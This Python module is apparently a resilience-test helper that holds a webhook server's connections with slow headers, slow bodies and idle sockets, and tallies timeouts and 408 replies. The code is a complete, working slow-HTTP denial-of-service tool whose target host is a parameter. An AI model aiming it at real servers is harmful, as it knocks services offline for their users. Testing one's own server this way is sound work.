"""Connections that hold a server's attention without ever finishing a request, from loopback.

Three kinds, each kept at a set number of open connections (one the server closes is opened again):
- `slow_headers`: a request line and headers, one byte a second;
- `slow_bodies`: whole headers announcing a body, then the body one byte a second;
- `idle`: connects and sends nothing.
No request is ever completed, so no signature is needed: this is what anyone on the internet can do.
One thread drives every socket (non-blocking), so thousands cost the attacker almost nothing.
"""

from __future__ import annotations

import contextlib
import errno
import selectors
import socket
import threading
import time
from dataclasses import dataclass, field

TRICKLE_INTERVAL_S = 1.0
OPEN_PER_TICK = 50  # new connections per 10 ms tick at most: a ramp, not a SYN flood
TICK_S = 0.01
BODY_BYTES = 2000

_HEADERS = (b"POST /webhooks/telnyx HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            b"telnyx-signature-ed25519: " + b"A" * 88 + b"\r\ntelnyx-timestamp: 1700000000\r\n")
SCRIPTS = {
    "slow_headers": (b"", _HEADERS + b"Content-Length: 2\r\n\r\n{}"),
    "slow_bodies": (_HEADERS + f"Content-Length: {BODY_BYTES}\r\n\r\n".encode(), b"{" + b" " * (BODY_BYTES - 1)),
    "idle": (b"", b""),
}


@dataclass
class _Connection:
    kind: str
    sock: socket.socket
    opened: float
    sent: int = 0  # bytes of the trickled part sent so far
    next_byte_at: float = 0.0


@dataclass
class Tally:
    """What the attack achieved, by kind: connections opened, and closed by the server (with an answer or not)."""

    opened: dict[str, int] = field(default_factory=dict)
    closed_by_server: dict[str, int] = field(default_factory=dict)
    answered_408: dict[str, int] = field(default_factory=dict)
    refused: int = 0  # connection attempts that failed outright
    held_at_end: dict[str, int] = field(default_factory=dict)
    longest_held_s: dict[str, float] = field(default_factory=dict)


class Attack:
    """Keeps `counts[kind]` connections of each kind open against host:port until stopped."""

    def __init__(self, host: str, port: int, counts: dict[str, int]):
        unknown = set(counts) - set(SCRIPTS)
        if unknown:
            raise ValueError(f"unknown attacker kinds: {sorted(unknown)}")
        self.address = (host, port)
        self.counts = dict(counts)
        self.tally = Tally()
        self._selector = selectors.DefaultSelector()
        self._open: dict[int, _Connection] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="attackers", daemon=True)

    def __enter__(self) -> Attack:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=10)
        now = time.monotonic()
        for connection in list(self._open.values()):
            self._note_held(connection, now)
            self._close(connection)
        self._selector.close()

    def held(self) -> dict[str, int]:
        """Connections open now, by kind."""
        held = dict.fromkeys(self.counts, 0)
        for connection in list(self._open.values()):
            held[connection.kind] += 1
        return held

    def _run(self) -> None:
        while not self._stop.is_set():
            now = time.monotonic()
            self._top_up(now)
            self._trickle(now)
            for key, _ in self._selector.select(timeout=TICK_S):
                self._server_spoke(key.data, now)
        self.tally.held_at_end = self.held()

    def _top_up(self, now: float) -> None:
        budget = OPEN_PER_TICK
        held = self.held()
        for kind, wanted in self.counts.items():
            for _ in range(min(budget, wanted - held[kind])):
                self._open_one(kind, now)
                budget -= 1

    def _open_one(self, kind: str, now: float) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        error = sock.connect_ex(self.address)
        if error not in (0, errno.EINPROGRESS):
            self.tally.refused += 1
            sock.close()
            return
        connection = _Connection(kind, sock, now, next_byte_at=now + TRICKLE_INTERVAL_S)
        self._open[sock.fileno()] = connection
        self._selector.register(sock, selectors.EVENT_READ, connection)
        self.tally.opened[kind] = self.tally.opened.get(kind, 0) + 1
        head, _ = SCRIPTS[kind]
        if head:
            self._send(connection, head)

    def _trickle(self, now: float) -> None:
        for connection in list(self._open.values()):
            _, trickled = SCRIPTS[connection.kind]
            if now >= connection.next_byte_at and connection.sent < len(trickled) - 1:  # never the last byte
                if self._send(connection, trickled[connection.sent:connection.sent + 1]):
                    connection.sent += 1
                connection.next_byte_at = now + TRICKLE_INTERVAL_S

    def _send(self, connection: _Connection, data: bytes) -> bool:
        try:
            return connection.sock.send(data) == len(data)
        except BlockingIOError:
            return False  # still connecting, or the server's buffer is full: try again next time
        except OSError:
            self._gone(connection, time.monotonic())
            return False

    def _server_spoke(self, connection: _Connection, now: float) -> None:
        try:
            data = connection.sock.recv(4096)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if data.startswith(b"HTTP/1.1 408"):
            self.tally.answered_408[connection.kind] = self.tally.answered_408.get(connection.kind, 0) + 1
        self._gone(connection, now)

    def _gone(self, connection: _Connection, now: float) -> None:
        if connection.sock.fileno() not in self._open:
            return
        kind = connection.kind
        self.tally.closed_by_server[kind] = self.tally.closed_by_server.get(kind, 0) + 1
        self._note_held(connection, now)
        self._close(connection)

    def _note_held(self, connection: _Connection, now: float) -> None:
        longest = self.tally.longest_held_s
        longest[connection.kind] = round(max(longest.get(connection.kind, 0.0), now - connection.opened), 1)

    def _close(self, connection: _Connection) -> None:
        self._open.pop(connection.sock.fileno(), None)
        with contextlib.suppress(KeyError, ValueError):
            self._selector.unregister(connection.sock)
        connection.sock.close()
